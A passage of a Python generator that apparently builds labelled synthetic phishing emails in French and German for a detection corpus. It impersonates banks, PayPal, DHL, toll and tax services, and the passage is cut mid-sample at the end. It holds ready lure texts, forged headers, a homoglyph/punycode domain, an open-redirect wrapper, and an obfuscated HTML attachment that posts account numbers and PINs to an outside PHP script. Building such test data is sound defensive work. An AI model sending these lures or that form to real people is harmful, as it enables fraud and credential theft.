<p>L'équipe Free</p></td></tr></table></body></html>
"""
    route = []
    headers = std(addr("Free Zimbra", "no-reply@free.fr"), rcpt, f"{rcpt} : votre mot de passe expire aujourd'hui",
                  rfc(sent), f"{hexid(name, 'mid', 20)}@zmb-support.com", "X-Priority: 1 (Highest)", mode="Q")
    return assemble(name, "free", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-peage-ulys-impaye-homoglyph-punycode.eml",
        "'VINCI Autoroutes / Ulys : passage impayé de 6,80 €' from the throwaway ulys-info.shop to a wanadoo.fr "
        "driver; the link text shows vіnci-autoroutes.com written with a Cyrillic і and the href is its punycode "
        "xn--vnci-autoroutes-72m.com")
def _(name):
    sent = when("Tue, 11 Feb 2025 12:09:55 +0100")
    rcpt = "francois.quere@wanadoo.fr"
    dom = "ulys-info.shop"
    sender = f"facturation@{dom}"
    hop = Hop(f"mail.{dom}", "45.144.30.162")
    a = Auth(sender, dom, "pass", "pass", dom, "s2025", "pass", "none")
    shown = "vіnci-autoroutes.com"  # Cyrillic U+0456
    puny = shown.encode("idna").decode()
    url = f"https://{puny}/ulys/regularisation?ticket={digits(name, 'tk', 12)}"
    plain = f"""VINCI Autoroutes – Ulys

Bonjour,

Un passage sans paiement a été enregistré le 03/02/2025 à la barrière de péage de
La Gravelle (A81) : 6,80 €.

Afin d'éviter une indemnité forfaitaire de 90 €, régularisez votre situation sous 72 heures
sur {shown}/ulys :
{url}

VINCI Autoroutes
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#1d1d1b">
<div style="max-width:600px;margin:auto"><div style="background:#004489;color:#fff;padding:14px 18px"><b>VINCI</b> Autoroutes &nbsp;<span style="background:#ffcc00;color:#004489;padding:2px 6px">Ulys</span></div>
<div style="padding:18px;border:1px solid #ddd;line-height:1.5">
<p>Bonjour,</p>
<p>Un passage sans paiement a été enregistré le <b>03/02/2025</b> à la barrière de péage de <b>La Gravelle (A81)</b> : <b>6,80&nbsp;€</b>.</p>
<p>Afin d'éviter une indemnité forfaitaire de 90&nbsp;€, régularisez votre situation sous 72 heures sur <a href="{url}">{shown}/ulys</a>.</p>
<p><a href="{url}" style="background:#004489;color:#fff;padding:10px 20px;text-decoration:none">Régulariser mon passage</a></p>
<p style="font-size:11px;color:#777">VINCI Autoroutes – Ulys</p></div></div></body></html>
"""
    route = [
        f"Received: from [127.0.0.1] (unknown [10.0.0.5])\n\tby mail.{dom} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
        f"\tfor <{rcpt}>; {rfc1(sent, '+0100', 'CET')}",
        dkim(name, dom, "s2025", sent, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
    ]
    headers = std(addr("VINCI Autoroutes", sender), rcpt, "Passage impayé – régularisez sous 72h", rfc(sent),
                  f"{uuid(name, 'mid')}@{dom}")
    return assemble(name, "wanadoo", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-paypal-invoice-callback-phone-workspace.eml",
        "A genuine PayPal invoice (service@paypal.fr, DKIM/SPF/DMARC pass) abused for callback fraud: an unknown "
        "'Service Facturation' merchant bills a ceramics workshop on Google Workspace 649,99 € and the note urges "
        "calling a fake PayPal number to cancel")
def _(name):
    sent = when("Wed, 04 Sep 2024 14:22:07 -0700")
    rcpt = "contact@atelier-lumiere-ceramique.fr"
    env = "service@paypal.fr"
    hop = Hop("mx0.slc.paypal.com", "173.0.84.227")
    a = Auth(env, "paypal.fr", "pass", "pass", "paypal.fr", "pp-dkim1", "pass", "reject")
    inv = f"INV2-{alnum(name, 'inv', 4).upper()}-{alnum(name, 'inv2', 4).upper()}-{alnum(name, 'inv3', 4).upper()}-{alnum(name, 'inv4', 4).upper()}"
    phone = "+33 9 70 19 48 26"
    url = f"https://www.paypal.com/invoice/p/#{inv.replace('-', '')}"
    note = (f"Nous avons détecté une activité inhabituelle sur votre compte. Un achat de 649,99 EUR (Apple MacBook Air) "
            f"a été autorisé. Si vous n'êtes pas à l'origine de cette transaction, appelez immédiatement le service "
            f"d'assistance PayPal au {phone} (7j/7) pour annuler et être remboursé.")
    plain = f"""Service Facturation vous a envoyé une facture d'un montant de 649,99 € EUR

Remarque du vendeur
{note}

Numéro de facture : {inv}
Date d'échéance : À réception

Afficher et payer la facture : {url}

Aide et contact | Sécurité
Copyright © 1999-2024 PayPal. Tous droits réservés.
PayPal (Europe) S.à r.l. et Cie, S.C.A., Société en Commandite par Actions. Siège social : 22-24 Boulevard Royal L-2449, Luxembourg RCS Luxembourg B 118 349.
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=UTF-8"></head>
<body style="margin:0;background:#f2f2f2;font-family:'PayPal Sans',Helvetica,Arial,sans-serif">
<table width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table width="600" style="background:#ffffff" cellpadding="0" cellspacing="0">
<tr><td style="padding:24px 32px"><img src="https://www.paypalobjects.com/digitalassets/c/system-triggered-email/n/layout/images/paypal-rebranding/pp-logo-in-circle-2x.png" width="48" alt="PayPal"></td></tr>
<tr><td style="padding:0 32px;font-size:22px;color:#001435"><b>Service Facturation vous a envoyé une facture d'un montant de 649,99&nbsp;€&nbsp;EUR</b></td></tr>
<tr><td style="padding:20px 32px;font-size:14px;color:#001435"><b>Remarque du vendeur</b><br>{note}</td></tr>
<tr><td style="padding:0 32px 20px;font-size:14px">Numéro de facture : {inv}<br>Date d'échéance : À réception</td></tr>
<tr><td style="padding:0 32px 28px"><a href="{url}" style="background:#003087;color:#fff;padding:12px 30px;border-radius:24px;text-decoration:none;font-weight:bold">Afficher et payer la facture</a></td></tr>
<tr><td style="padding:20px 32px;background:#f7f7f7;font-size:11px;color:#687173">Aide et contact | Sécurité<br>Copyright © 1999-2024 PayPal. Tous droits réservés.<br>PayPal (Europe) S.à r.l. et Cie, S.C.A., Société en Commandite par Actions. Siège social : 22-24 Boulevard Royal L-2449, Luxembourg RCS Luxembourg B 118 349.</td></tr>
</table></td></tr></table></body></html>
"""
    pp_id = hexid(name, "ppid", 13)
    route = [
        f"Received: from paypal.com (ccg01mail{int(hexid(name, 'ccg', 1), 16) % 9 + 1:02d}.ccg.slc.paypalinc.com [10.196.{int(hexid(name, 'ccgip', 2), 16) % 250}.{int(hexid(name, 'ccgip2', 2), 16) % 250}])\n"
        f"\tby mx0.slc.paypal.com (Postfix) with ESMTP id {hexid(name, 'pfx', 10, True)}\n\tfor <{rcpt}>; {rfc1(sent, '-0700', 'PDT')}",
        dkim(name, "paypal.fr", "pp-dkim1", sent, "Date:Message-ID:From:To:Subject:MIME-Version:Content-Type"),
    ]
    headers = [
        f"Date: {rfc1(sent, '-0700')}",
        f"Message-ID: <{pp_id}.{hexid(name, 'ppid2', 12)}@paypal.com>",
        "From: \"service@paypal.fr\" <service@paypal.fr>",
        f"To: {rcpt}",
        f"Subject: {enc('Facture de Service Facturation (' + inv + ')', 'Q')}",
        "X-MaxCode-Template: PPX001156",
        f"X-PP-REQUESTED-TIME: {epoch(sent)}{digits(name, 'ms', 3)}",
        "X-PP-Email-transmission-Id: " + uuid(name, "pptx"),
        f"PP-Correlation-Id: {hexid(name, 'ppcorr', 13)}",
        "X-Email-Type-Id: PPX001156",
    ]
    return assemble(name, "google", rcpt, later(sent, 2), hop, a, route, headers,
                    alt(name, plain, html, boundary=f"----=_Part_{digits(name, 'pp', 7)}_{digits(name, 'pp2', 9)}.{epoch(sent)}{digits(name, 'pp3', 3)}"))


# --------------------------------------------------------------------------------------------
# More sending infrastructures
# --------------------------------------------------------------------------------------------

def unitedinternet_route(name: str, dt: datetime, client_ip: str, domain: str) -> tuple[Hop, list[str]]:
    """A web.de / gmx.net freemail account submitting through mail.gmx.net or smtp.web.de."""
    if domain == "web.de":
        node, sub, sel, out = "mrweb", "smtp.web.de", "s29768273", "mout.web.de"
    else:
        node, sub, sel, out = "mrgmx", "mail.gmx.net", "s31663417", "mout.gmx.net"
    n = 100 + int(hexid(name, "mr", 2), 16) % 30
    nem = f"{alnum(name, 'snem1', 6)}-{alnum(name, 'snem2', 10)}-{alnum(name, 'snem3', 6)}"
    lines = [
        dkim(name, domain, sel, dt, "X-UI-Sender-Class:Date:From:To:Subject:MIME-Version:Content-Type", c="relaxed/simple"),
        "X-UI-Sender-Class: " + ("814a7b36-bfc1-4dae-8640-3722d8ec6cd6" if domain == "web.de" else "724b4f7f-cbec-4199-ad4e-598c01a50d3a"),
        f"Received: from [{client_ip}] ([{client_ip}]) by {sub} ({node}{n}\n [212.227.17.{160 + n % 30}]) with ESMTPSA (Nemesis) id {nem}; "
        f"{rfc(dt, cet(dt))}",
    ]
    return Hop(out, f"212.227.{15 if domain == 'web.de' else 17}.{3 + int(hexid(name, 'mout', 1), 16) % 12}"), lines


def ionos_route(name: str, dt: datetime, client_ip: str, domain: str) -> tuple[Hop, list[str]]:
    """A mailbox on IONOS (1&1) submitting through mrelayeu.kundenserver.de."""
    n = 100 + int(hexid(name, "mreue", 2), 16) % 20
    nem = f"{alnum(name, 'inem1', 6)}-{alnum(name, 'inem2', 10)}-{alnum(name, 'inem3', 6)}"
    lines = [
        dkim(name, domain, "s1-ionos", dt, "X-UI-Sender-Class:Date:From:To:Subject:MIME-Version:Content-Type", c="relaxed/simple"),
        f"Received: from [192.168.178.{20 + int(hexid(name, 'lan', 1), 16)}] ([{client_ip}]) by mrelayeu.kundenserver.de\n"
        f" (mreue{n} [212.227.15.{160 + n % 30}]) with ESMTPSA (Nemesis) id {nem}; "
        f"{rfc(dt, cet(dt))}",
    ]
    return Hop(f"mout.kundenserver.de", f"212.227.126.{130 + int(hexid(name, 'kout', 1), 16)}"), lines


def strato_route(name: str, dt: datetime, client_ip: str, domain: str, rcpt: str) -> tuple[Hop, list[str]]:
    lines = [
        f"ARC-Seal: i=1; a=rsa-sha256; t={epoch(dt)}; cv=none;\n    d=strato.com; s=strato-dkim-0002;\n"
        f"    b={fold_b64(b64(name, 'sarc', 342) + '==', 64, 64, '    ')}",
        f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; t={epoch(dt)};\n    s=strato-dkim-0002; d=strato.com;\n"
        f"    h=Subject:To:From:Date:Message-ID:Cc:Date:From:Subject:Sender;\n    bh={b64(name, 'sarcbh', 43)}=;\n"
        f"    b={fold_b64(b64(name, 'sarcb', 342) + '==', 64, 64, '    ')}",
        "ARC-Authentication-Results: i=1; strato.com;\n    arc=none;\n    dkim=none",
        f"X-RZG-CLASS-ID: mo00",
        f"X-RZG-AUTH: \":{b64(name, 'rzauth', 60)}=\"",
        dkim(name, domain, "strato-dkim-0002", dt, "Subject:To:From:Date:Message-ID:Cc:Date:From:Subject:Sender"),
        f"Received: from [192.168.2.{30 + int(hexid(name, 'lan', 1), 16)}]\n    by smtp.strato.de (RZmta 51.{int(hexid(name, 'rzm', 1), 16) % 4}.0 AUTH)\n"
        f"    with ESMTPSA id {alnum(name, 'rzsid', 15)}\n    (using TLSv1.3 with cipher TLS_AES_256_GCM_SHA384 (256 bits))\n"
        f"    (Client did not present a certificate)\n    for <{rcpt}>;\n    {rfc(dt, cet(dt))}",
    ]
    return Hop(f"mo4-p0{int(hexid(name, 'mo4', 1), 16) % 9}-ob.smtp.rzone.de", f"81.169.146.{160 + int(hexid(name, 'mo4ip', 1), 16)}"), lines


def mailgun_route(name: str, domain: str, dt: datetime) -> tuple[Hop, list[str], str]:
    n = 100 + int(hexid(name, "mg", 2), 16) % 100
    host = f"m{n}-{int(hexid(name, 'mg2', 1), 16)}.eu.mailgun.net"
    ip = f"185.250.239.{n}"
    env = f"bounce+{hexid(name, 'mgb', 6)}.{hexid(name, 'mgb2', 6)}-{{rcpt}}@{domain}"
    lines = [
        f"DKIM-Signature: a=rsa-sha256; v=1; c=relaxed/relaxed; d={domain}; q=dns/txt; s=k1; t={epoch(dt)}; x={epoch(dt) + 7200};\n"
        f" h=Message-Id: To: To: From: From: Subject: Subject: Content-Type: Mime-Version: Date: Sender: Sender;\n"
        f" bh={b64(name, 'mgbh', 43)}=;\n b={b64(name, 'mgb', 172)}",
        f"X-Mailgun-Sid: {b64(name, 'mgsid', 52)}=",
        f"Received: by {hexid(name, 'mgh', 64)} with HTTP\n id {hexid(name, 'mghid', 24)}; {rfc(dt, '+0000').replace('+0000', 'GMT')}",
        f"X-Mailgun-Sending-Ip: {ip}",
        f"X-Mailgun-Batch-Id: {hexid(name, 'mgbatch', 24)}",
    ]
    return Hop(host, ip), lines, env


def bing_redirect(name: str, target: str) -> str:
    u = "a1" + base64.urlsafe_b64encode(target.encode()).decode().rstrip("=")
    p = hexid(name, "bingp", 64)
    ts = base64.b64encode(f"MTcx{digits(name, 'ts', 8)}".encode()).decode().rstrip("=")
    return (f"https://www.bing.com/ck/a?!&&p={p}JmltdHM9{ts}&ptn=3&ver=2&hsh=3&fclid={uuid(name, 'fclid')}"
            f"&u={u}&ntb=1")


# --------------------------------------------------------------------------------------------
# PHISHING — German
# --------------------------------------------------------------------------------------------

@sample("phishing", "b12-sparkasse-pushtan-umstellung-bing-redirect.eml",
        "Sparkasse 'Umstellung auf das neue S-pushTAN-Verfahren' sent from a hijacked web.de freemail account "
        "(authentication passes for web.de) to a t-online.de customer; the button goes through a Bing click-tracking "
        "open redirect (u=a1<base64>) to an onrender.com kit")
def _(name):
    sent = when("Tue, 19 Mar 2024 06:31:22 +0100")
    rcpt = "h.wiegand@t-online.de"
    sender = "k.brandt1961@web.de"
    hop, route = unitedinternet_route(name, sent, "95.214.27.41", "web.de")
    a = Auth(sender, "web.de", "pass", "pass", "web.de", "s29768273", "pass", "quarantine")
    target = f"https://sparkasse-pushtan-verfahren.onrender.com/de/login?blz={digits(name, 'blz', 8)}"
    url = bing_redirect(name, target)
    plain = f"""Sparkasse

Sehr geehrte Kundin, sehr geehrter Kunde,

zum 25.03.2024 stellen wir das Freigabeverfahren für Online-Banking und Kartenzahlungen auf das
neue S-pushTAN-Verfahren um. Ihr bisheriges Verfahren verliert damit seine Gültigkeit.

Bitte führen Sie die Umstellung rechtzeitig durch, um eine Sperrung Ihres Online-Bankings zu vermeiden:

{url}

Die Umstellung dauert nur wenige Minuten.

Mit freundlichen Grüßen
Ihre Sparkasse
"""
    html = f"""<html><body style="font-family:Arial,Helvetica,sans-serif;color:#000;background:#fff">
<table width="600" cellpadding="0" cellspacing="0" align="center">
<tr><td style="background:#ff0000;color:#fff;padding:16px 20px;font-size:22px;font-weight:bold">Sparkasse</td></tr>
<tr><td style="padding:22px 20px;font-size:14px;line-height:1.55">
<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p>
<p>zum <b>25.03.2024</b> stellen wir das Freigabeverfahren für Online-Banking und Kartenzahlungen auf das <b>neue S-pushTAN-Verfahren</b> um. Ihr bisheriges Verfahren verliert damit seine Gültigkeit.</p>
<p>Bitte führen Sie die Umstellung rechtzeitig durch, um eine Sperrung Ihres Online-Bankings zu vermeiden.</p>
<p style="text-align:center"><a href="{url}" style="background:#ff0000;color:#fff;padding:12px 26px;text-decoration:none;font-weight:bold">Jetzt umstellen</a></p>
<p>Die Umstellung dauert nur wenige Minuten.</p>
<p>Mit freundlichen Grüßen<br>Ihre Sparkasse</p></td></tr></table></body></html>
"""
    headers = [
        *ui_out(name),
        *std(addr("Sparkasse", sender), rcpt, "Wichtig: Umstellung auf das neue S-pushTAN-Verfahren", rfc(sent),
             f"trinity-{uuid(name, 'trinity')}-{digits(name, 'tr', 13)}@3c-app-webde-bs{int(hexid(name, 'bs', 1), 16) % 60:02d}"),
        "Importance: normal",
        "Sensitivity: Normal",
    ]
    return assemble(name, "tonline", rcpt, later(sent, 4), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-volksbank-securego-plus-qr-image.eml",
        "Volksbank 'SecureGo plus muss neu aktiviert werden' from the lookalike vr-banking-service.de to a web.de "
        "customer; the only way forward is an inline QR code image (to a replit.app kit), so there is no clickable "
        "link to scan")
def _(name):
    sent = when("Thu, 12 Oct 2023 15:47:08 +0200")
    rcpt = "sabine.koehler@web.de"
    dom = "vr-banking-service.de"
    sender = f"info@{dom}"
    hop = Hop(f"mail.{dom}", "91.215.85.140")
    a = Auth(sender, dom, "pass", "pass", dom, "mail", "none", "absent")
    qr_target = f"https://vr-securego-aktivierung.replit.app/?id={hexid(name, 'id', 12)}"
    png = files.qr_png(qr_target)
    cid = f"qr_{hexid(name, 'cid', 10)}"
    route = [
        f"Received: from localhost (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
        f"\tfor <{rcpt}>; {rfc1(sent, '+0200', 'CEST')}",
        dkim(name, dom, "mail", sent, "Date:From:To:Subject:From"),
    ]
    plain = """Volksbanken Raiffeisenbanken

Sehr geehrte Kundin, sehr geehrter Kunde,

aufgrund einer Aktualisierung der Sicherheitsrichtlinien muss Ihre SecureGo plus App neu aktiviert werden.
Scannen Sie dazu den QR-Code in dieser E-Mail mit der Kamera Ihres Smartphones.

Ohne Neuaktivierung bis zum 16.10.2023 können keine Aufträge mehr freigegeben werden.

Ihre Volksbank Raiffeisenbank
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#003d8f">
<div style="max-width:560px;margin:auto;border:1px solid #dce3ec">
<div style="background:#0066b3;color:#fff;padding:14px 18px;font-size:18px"><b>Volksbanken Raiffeisenbanken</b></div>
<div style="padding:20px;color:#222;line-height:1.5">
<p>Sehr geehrte Kundin, sehr geehrter Kunde,</p>
<p>aufgrund einer Aktualisierung der Sicherheitsrichtlinien muss Ihre <b>SecureGo plus</b> App neu aktiviert werden.
Scannen Sie dazu den folgenden QR-Code mit der Kamera Ihres Smartphones.</p>
<p style="text-align:center"><img src="cid:{cid}" width="200" height="200" alt="QR-Code"></p>
<p>Ohne Neuaktivierung bis zum <b>16.10.2023</b> können keine Aufträge mehr freigegeben werden.</p>
<p>Ihre Volksbank Raiffeisenbank</p></div></div></body></html>
"""
    headers = std(addr("VR SecureGo plus", sender), rcpt, "SecureGo plus: Neuaktivierung erforderlich", rfc(sent),
                  f"{hexid(name, 'mid', 24)}@{dom}")
    body = Multi("related", f"----=_NextPart_{hexid(name, 'rel', 20, True)}", [
        Multi("alternative", f"----=_NextPart_{hexid(name, 'alt', 20, True)}", [text(plain), text(html, "html")]),
        attachment("image/png", "qrcode.png", png, inline=True, cid=cid),
    ], params=' type="multipart/alternative";')
    return assemble(name, "webde", rcpt, later(sent, 3), hop, a, route, headers, body)


@sample("phishing", "b12-deutsche-bank-phototan-html-unescape-ionos.eml",
        "Deutsche Bank 'photoTAN-Aktivierung erforderlich' from an electrician's hijacked IONOS mailbox (passes for "
        "elektro-kessler-gmbh.de) to a joinery on IONOS; the attached .htm builds its login form with "
        "document.write(unescape('%3C...')) and posts branch, account, PIN to a PHP script on a hacked site")
def _(name):
    sent = when("Mon, 26 Feb 2024 10:03:55 +0100")
    rcpt = "info@schreinerei-albers.de"
    dom = "elektro-kessler-gmbh.de"
    sender = f"buchhaltung@{dom}"
    hop, route = ionos_route(name, sent, "185.220.101.47", dom)
    a = Auth(sender, dom, "pass", "pass", dom, "s1-ionos", "none", "absent")
    inner = f"""<div style="font-family:Arial;max-width:400px;margin:50px auto;border:1px solid #ccc;padding:26px">
<div style="color:#0018a8;font-size:22px;font-weight:bold">Deutsche Bank</div>
<p>photoTAN-Aktivierung &ndash; bitte melden Sie sich an.</p>
<form method="POST" action="https://www.pension-seeblick-ruegen.de/wp-admin/css/colors/db/next.php">
<input name="filiale" placeholder="Filiale" style="width:100%;padding:9px;margin:5px 0">
<input name="konto" placeholder="Konto" style="width:100%;padding:9px;margin:5px 0">
<input name="unterkonto" placeholder="Unterkonto" style="width:100%;padding:9px;margin:5px 0">
<input name="pin" type="password" placeholder="PIN" style="width:100%;padding:9px;margin:5px 0">
<input type="hidden" name="email" value="{rcpt}">
<button style="background:#0018a8;color:#fff;border:0;padding:11px;width:100%">Weiter</button></form></div>"""
    escaped = "".join(f"%{b:02X}" for b in inner.encode("utf-8"))
    page = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><title>Deutsche Bank - photoTAN</title></head><body>
<script language="javascript">document.write(unescape('{escaped}'));</script>
<noscript>Bitte aktivieren Sie JavaScript.</noscript></body></html>
"""
    plain = """Sehr geehrte Damen und Herren,

im Zuge der Umstellung auf die neue photoTAN-Generation ist eine erneute Aktivierung Ihres Zugangs
erforderlich. Bitte öffnen Sie das angehängte Formular und folgen Sie den Anweisungen.

Die Aktivierung muss bis zum 28.02.2024 erfolgen, andernfalls wird der Zugang vorübergehend gesperrt.

Mit freundlichen Grüßen
Deutsche Bank AG – Firmenkundenservice
"""
    html = """<html><body><div style="font-family:Arial;font-size:10pt">Sehr geehrte Damen und Herren,<br><br>
im Zuge der Umstellung auf die neue photoTAN-Generation ist eine erneute Aktivierung Ihres Zugangs erforderlich.
Bitte öffnen Sie das angehängte Formular und folgen Sie den Anweisungen.<br><br>
Die Aktivierung muss bis zum <b>28.02.2024</b> erfolgen, andernfalls wird der Zugang vorübergehend gesperrt.<br><br>
Mit freundlichen Grüßen<br>Deutsche Bank AG – Firmenkundenservice</div></body></html>
"""
    headers = [
        *ui_out(name),
        *std(addr("Deutsche Bank Firmenkunden", sender), rcpt, "photoTAN-Aktivierung erforderlich – Frist 28.02.2024",
             rfc(sent), f"{uuid(name, 'mid')}@{dom}"),
        "User-Agent: Mozilla Thunderbird",
        "Content-Language: de-DE",
    ]
    body = Multi("mixed", f"------------{alnum(name, 'bnd', 24)}", [
        Multi("alternative", f"------------{alnum(name, 'bnd2', 24)}", [text(plain), text(html, "html")]),
        attachment("text/html", "photoTAN_Aktivierung.htm", page.encode("utf-8")),
    ])
    return assemble(name, "ionos", rcpt, later(sent, 2), hop, a, route, headers, body)


@sample("phishing", "b12-dhl-zollgebuehr-top-domain-vercel.eml",
        "DHL Paket 'Zollgebühr 2,99 € offen, Sendung wird zurückgeschickt' from the .top throwaway "
        "dhl-paketinfo.top to a gmx.de address; payment link on vercel.app")
def _(name):
    sent = when("Wed, 29 Nov 2023 08:12:47 +0100")
    rcpt = "tobias.engel84@gmx.de"
    dom = "dhl-paketinfo.top"
    sender = f"noreply@{dom}"
    hop = Hop(f"mail.{dom}", "193.143.1.38")
    a = Auth(sender, dom, "pass", "pass", dom, "dkim", "pass", "none")
    track = f"00340434{digits(name, 'trk', 12)}"
    url = f"https://dhl-paket-zoll.vercel.app/sendung/{track}"
    route = [
        f"Received: from [127.0.0.1] (localhost [127.0.0.1])\n\tby mail.{dom} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
        f"\tfor <{rcpt}>; {rfc1(sent, '+0100', 'CET')}",
        dkim(name, dom, "dkim", sent, "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type"),
    ]
    plain = f"""DHL Paket

Ihre Sendung {track} wartet auf die Zahlung der Zollgebühr.

Offener Betrag: 2,99 EUR
Wird der Betrag nicht innerhalb von 48 Stunden beglichen, wird die Sendung an den Absender zurückgeschickt.

Jetzt bezahlen: {url}

Ihr DHL Paket Team
"""
    html = f"""<html><body style="margin:0;font-family:Frutiger,Arial,sans-serif">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="background:#ffcc00;padding:16px 20px;color:#d40511;font-size:26px;font-weight:bold;font-style:italic">DHL</td></tr>
<tr><td style="padding:22px 20px;font-size:14px;color:#333;line-height:1.5">
<p><b>Ihre Sendung {track} wartet auf die Zahlung der Zollgebühr.</b></p>
<p>Offener Betrag: <b>2,99 EUR</b><br>Wird der Betrag nicht innerhalb von 48 Stunden beglichen, wird die Sendung an den Absender zurückgeschickt.</p>
<p><a href="{url}" style="background:#d40511;color:#fff;padding:11px 24px;text-decoration:none">Jetzt bezahlen</a></p>
<p>Ihr DHL Paket Team</p></td></tr></table></body></html>
"""
    headers = std(addr("DHL Paket", sender), rcpt, f"Ihre Sendung {track}: Zollgebühr ausstehend", rfc(sent),
                  f"{hexid(name, 'mid', 28)}@{dom}")
    return assemble(name, "gmx", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-bzst-steuererstattung-compromised-wordpress.eml",
        "'Bundeszentralamt für Steuern: Ihre Steuerrückerstattung von 452,70 €' from the lookalike "
        "bzst-erstattung.de (not bzst.de / elster.de) to a web.de taxpayer; the form sits in wp-includes of a "
        "physiotherapy practice's compromised WordPress and asks for IBAN and online-banking login")
def _(name):
    sent = when("Fri, 21 Jun 2024 09:40:13 +0200")
    rcpt = "gisela.hartmann@web.de"
    dom = "bzst-erstattung.de"
    sender = f"erstattung@{dom}"
    hop = Hop(f"srv{digits(name, 'srv', 4)}.hosting-de-cloud.net", "5.181.80.66")
    a = Auth(sender, dom, "pass", "pass", dom, "default", "pass", "none")
    az = f"{digits(name, 'az1', 3)}/{digits(name, 'az2', 3)}/{digits(name, 'az3', 5)}"
    url = f"https://www.physiotherapie-lindner.de/wp-includes/js/bzst/erstattung/?az={az.replace('/', '')}"
    route = [
        f"Received: from [127.0.0.1] (localhost [127.0.0.1])\n\tby {hop.ptr} (Postfix) with ESMTPSA id {hexid(name, 'pf', 10, True)}\n"
        f"\tfor <{rcpt}>; {rfc1(sent, '+0200', 'CEST')}",
        dkim(name, dom, "default", sent, "Date:From:To:Subject:From"),
    ]
    plain = f"""Bundeszentralamt für Steuern

Steuernummer / Aktenzeichen: {az}

Sehr geehrte Steuerpflichtige, sehr geehrter Steuerpflichtiger,

nach der Prüfung Ihrer Steuererklärung für das Jahr 2023 ergibt sich eine Erstattung in Höhe von 452,70 EUR.
Damit die Auszahlung erfolgen kann, bestätigen Sie bitte Ihre Bankverbindung über das folgende Formular:

{url}

Die Bestätigung muss innerhalb von 5 Werktagen erfolgen.

Mit freundlichen Grüßen
Bundeszentralamt für Steuern
"""
    html = f"""<html><body style="font-family:BundesSans,Arial,sans-serif;font-size:14px;color:#000">
<div style="max-width:600px;margin:auto">
<div style="border-bottom:2px solid #000;padding:10px 0"><span style="border-left:4px solid #000;padding-left:6px">Bundeszentralamt<br>für Steuern</span></div>
<p style="font-size:12px;color:#555">Steuernummer / Aktenzeichen: {az}</p>
<p>Sehr geehrte Steuerpflichtige, sehr geehrter Steuerpflichtiger,</p>
<p>nach der Prüfung Ihrer Steuererklärung für das Jahr 2023 ergibt sich eine Erstattung in Höhe von <b>452,70 EUR</b>.
Damit die Auszahlung erfolgen kann, bestätigen Sie bitte Ihre Bankverbindung.</p>
<p><a href="{url}" style="background:#004b76;color:#fff;padding:10px 20px;text-decoration:none">Erstattung anfordern</a></p>
<p>Die Bestätigung muss innerhalb von 5 Werktagen erfolgen.</p>
<p>Mit freundlichen Grüßen<br>Bundeszentralamt für Steuern</p></div></body></html>
"""
    headers = std(addr("Bundeszentralamt für Steuern", sender), rcpt, "Mitteilung über Ihre Steuerrückerstattung 2023",
                  rfc(sent), f"{hexid(name, 'mid', 24)}@{dom}")
    return assemble(name, "webde", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html))


@sample("phishing", "b12-telekom-zahlung-fehlgeschlagen-workers-dev.eml",
        "'Telekom: Ihre Zahlung konnte nicht verarbeitet werden' from a throwaway outlook.de mailbox with the display "
        "name 'Telekom Deutschland' to a t-online.de customer; the 'Zahlungsdaten aktualisieren' link is a "
        "workers.dev page")
def _(name):
    sent = when("Sat, 07 Sep 2024 17:55:02 +0000")
    rcpt = "manfred.ziegler@t-online.de"
    sender = "telekom.kundenservice.de@outlook.de"
    hop, route = outlook_consumer_route(name, "outlook.de", sent)
    a = Auth(sender, "outlook.de", "pass", "pass", "outlook.de", "selector1", "pass", "none")
    url = f"https://telekom-kundencenter.rechnung-de.workers.dev/zahlung?kd={digits(name, 'kd', 10)}"
    plain = f"""Telekom

Guten Tag,

leider konnte die Abbuchung Ihrer Rechnung für August 2024 (49,95 €) nicht durchgeführt werden.
Um eine Unterbrechung Ihrer Telekom Dienste zu vermeiden, aktualisieren Sie bitte Ihre Zahlungsdaten:

{url}

Freundliche Grüße
Ihre Telekom
"""
    html = f"""<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head><body dir="ltr">
<div style="font-family:TeleNeo,Arial,sans-serif;font-size:12pt;color:#000">
<div style="background:#e20074;color:#fff;padding:14px;font-size:24px;font-weight:bold">T &nbsp;&middot;&middot;&middot;</div>
<p>Guten Tag,</p>
<p>leider konnte die Abbuchung Ihrer Rechnung für August 2024 (<b>49,95 €</b>) nicht durchgeführt werden.</p>
<p>Um eine Unterbrechung Ihrer Telekom Dienste zu vermeiden, aktualisieren Sie bitte Ihre Zahlungsdaten.</p>
<p><a href="{url}" style="background:#e20074;color:#fff;padding:10px 22px;text-decoration:none">Zahlungsdaten aktualisieren</a></p>
<p>Freundliche Grüße<br>Ihre Telekom</p></div></body></html>
"""
    headers = [
        *std(addr("Telekom Deutschland", sender), rcpt, "Ihre Zahlung konnte nicht verarbeitet werden", rfc1(sent, "+0000"),
             f"AS8P251MB{hexid(name, 'mid', 28, True)}@AS8P251MB{digits(name, 'mb', 4)}.EURP251.PROD.OUTLOOK.COM"),
        "Accept-Language: de-DE, en-US",
        "Content-Language: de-DE",
        "X-MS-Has-Attach:",
    ]
    return assemble(name, "tonline", rcpt, later(sent, 4), hop, a, route, headers,
                    Multi("alternative", f"_000_AS8P251MB{hexid(name, 'bnd', 24, True)}_", [text(plain), text(html, "html")]))


@sample("phishing", "b12-kleinanzeigen-sicher-bezahlen-gmx-wix.eml",
        "Kleinanzeigen 'Käufer hat über Sicher bezahlen gezahlt – Zahlungseingang bestätigen' sent by the fake buyer "
